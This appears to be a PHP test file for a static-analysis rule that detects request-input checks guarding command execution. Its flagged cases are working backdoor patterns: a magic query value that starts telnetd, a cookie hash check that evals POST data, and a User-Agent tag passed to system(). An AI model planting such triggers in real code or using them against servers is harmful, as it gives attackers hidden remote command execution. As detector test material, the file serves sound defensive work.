<?php
const TAG = 'e7d1';

function status()
{
    $op = $_GET['op'] ?? '';
    // ruleid: php-input-match-guards-command
    if ($op === 'zx81') {
        header('X: 1');
        echo shell_exec('/usr/sbin/telnetd; id');
    }
}

class Page
{
    private $code;

    public function load()
    {
        $this->code = $_COOKIE['c'];
    }

    public function show()
    {
        // ruleid: php-input-match-guards-command
        if (md5($this->code) == '0cc175b9c0f1b6a831c399e269772661') {
            $f = $_POST['f'];
            eval($f);
        }
    }
}

function agent()
{
    $ua = $_SERVER['HTTP_USER_AGENT'];
    // ruleid: php-input-match-guards-command
    if (strpos($ua, TAG) !== 0) {
        return;
    }
    system(substr($ua, 4));
}

function plain()
{
    // ok: php-input-match-guards-command
    if ($_GET['format'] === 'json') {
        header('Content-Type: application/json');
    }
    // ok: php-input-match-guards-command
    if (empty($_POST)) {
        system('logger empty');
    }
}

function local($mode)
{
    // ok: php-input-match-guards-command
    if ($mode === 'fast') {
        system('nice true');
    }
}
